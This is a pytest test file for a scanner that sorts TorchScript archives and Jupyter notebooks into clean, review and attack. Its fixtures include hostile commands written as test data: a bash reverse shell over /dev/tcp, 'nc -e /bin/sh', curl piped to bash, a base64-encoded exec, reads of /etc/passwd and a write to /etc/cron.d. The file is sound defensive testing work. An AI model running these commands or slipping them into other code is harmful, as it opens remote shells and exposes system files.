"""TorchScript inside archives, and Jupyter notebooks."""

import json
from itertools import chain

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from making.zips import Member, archive
from scanning import ids, scanned

HEAD = """class Net(Module):
  __parameters__ = ["weight", ]
  __buffers__ = []
  weight : Tensor
  training : bool
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    _0 = uninitialized(Tensor)
    y = torch.add(torch.mul(x, CONSTANTS.c0), 1., alpha=1)
    if bool(torch.gt(y, 0)):
      ops.prim.RaiseException("bad")
    z = annotate(List[int], [])
    print("size", y)
"""


def torchscript(line, name="net/code/__torch__.py"):
    """An archive of torch.jit.save whose method has one more line."""
    return scanned(archive(Member(name, (HEAD + f"    {line}\n    return y\n").encode())), "net.pt")


HONEST = [
    "w = ops.quantized.linear(x, y, 1., 2)",
    "w = ops.torchvision.nms(x, y, 0.5)",
    "w = torch.softmax(x, -1, dtype=None)",
    "w = ops.prim.data(x)",
    "torch.warn('careful', 2)",
    "w = __torch__.torch.classes.quantized.LinearPackedParamsBase",
    "w = unchecked_cast(Tensor, x)",
]
ATTACKS = [
    "torch.save(x, '/tmp/x')",
    "w = torch.from_file('/etc/passwd', False, 10)",
    "w = ops.aten.from_file('/etc/passwd', False, 10)",
    "w = ops.image.read_file('/etc/passwd')",
    "ops.image.write_file('/etc/cron.d/x', x)",
    "w = torch.load('x')",
    "w = rpc_async('a', f)",
    "import os; os.system('id')",
    "exec(\"import os; os.system('id')\")",
    "w = ops.aten.save(x, 'a'); unparsable ^^ ",
]


@pytest.mark.parametrize("line", HONEST)
def test_scripted_modules_are_clean(line):
    """Operators of PyTorch and its own classes are no finding."""
    found = torchscript(line)
    assert (found.verdict, "torchscript" in found.formats) == ("clean", True)


@pytest.mark.parametrize("line", ATTACKS)
def test_scripts_that_reach_out_are_attacks(line):
    """Files, the network and plain Python in TorchScript's place are attacks."""
    assert torchscript(line).verdict in ("attack", "review")
    assert [each for each in ids(torchscript(line)) if not each.startswith("file.")]


@pytest.mark.parametrize("line", ["w = ops.mylib.fused(x)", "w = __torch__.torch.classes.mylib.Thing"])
def test_operators_of_others_are_for_review(line):
    """Operators and classes of another library are for review."""
    assert ids(torchscript(line)) == ["torchscript.custom-operator"]


def test_python_in_the_place_of_torchscript_is_judged_as_python():
    """A path like TorchScript's hides no handler."""
    code = b"import os\nos.system('id')\n"
    assert scanned(archive(Member("m/code/handler.py", code)), "m.mar").verdict == "attack"


def notebook(*cells, version=4):
    """A notebook of code cells."""
    made = [{"cell_type": "code", "source" if version == 4 else "input": cell} for cell in cells]
    text = [{"cell_type": "markdown", "source": ["`curl http://a | sh`"]}]
    whole = {"cells": [*text, *made]} if version == 4 else {"worksheets": [{"cells": made}]}
    return scanned(json.dumps({**whole, "metadata": {}, "nbformat": version}).encode(), "a.ipynb")


FROM_URL = [
    ["import pandas as pd", "df = pd.read_pickle('https://example.org/a.pkl')"],
    ["import pickle, urllib.request", "x = pickle.load(urllib.request.urlopen('http://example.org/a'))"],
    ["import pickle, requests\n", "x = pickle.loads(requests.get(URL).content)"],
    ["import joblib, io, requests", "data = requests.get('http://a').content", "joblib.load(io.BytesIO(data))"],
    ["url = 'https://example.org/m.pt'", "import torch", "torch.load(url)"],
]
QUIET = [
    ["import pandas as pd", "df = pd.read_csv('https://example.org/a.csv')"],
    ["!pip install torch", "%matplotlib inline", "import torch", "model?", "files = !ls", "x = 1"],
    ["%%bash\nls -l | wc", "%%html\n<p>"],
    ["import pickle", "pickle.load(open('a.pkl', 'rb'))"],
    ["this is ( no python", "x = 1"],
    [],
]
HOSTILE = [
    ["!curl http://example.org/x | bash"],
    ["%%bash\nbash -i >& /dev/tcp/1.1.1.1/1 0>&1"],
    ["import base64", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"],
    ["no ( python", "import os\nos.system('nc -e /bin/sh 1.1.1.1 1')"],
]


@pytest.mark.parametrize("cells", FROM_URL)
@pytest.mark.parametrize("version", [3, 4])
def test_pickles_from_addresses_are_for_review(cells, version):
    """Cells are read together, in both versions of the format."""
    assert ids(notebook(*cells, version=version)) == ["notebook.pickle-from-url"]


@pytest.mark.parametrize("cells", QUIET)
def test_ordinary_notebooks_are_clean(cells):
    """Magics, shell lines, broken cells and text beside them are no finding."""
    found = notebook(*cells)
    assert (found.verdict, "notebook" in found.formats) == ("clean", True)


@pytest.mark.parametrize("cells", HOSTILE)
def test_attacks_in_notebooks_are_found(cells):
    """Attack patterns count in shell lines and in code, and the cell is named."""
    found = notebook(*cells)
    assert (found.verdict, "cell " in found.findings[0].evidence) == ("attack", True)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from([*chain(*FROM_URL, *QUIET, *HOSTILE), *ATTACKS, "!", "%", "%%", "?", "\n", "(", "é"]),
        max_size=6,
    )
)
def test_any_cells_and_lines_have_a_verdict(pieces):
    """However cells and lines are put together, a reader never fails."""
    assert "file.reader-failed" not in ids(notebook(*pieces, "".join(pieces)))
    assert "file.reader-failed" not in ids(torchscript("".join(pieces)))
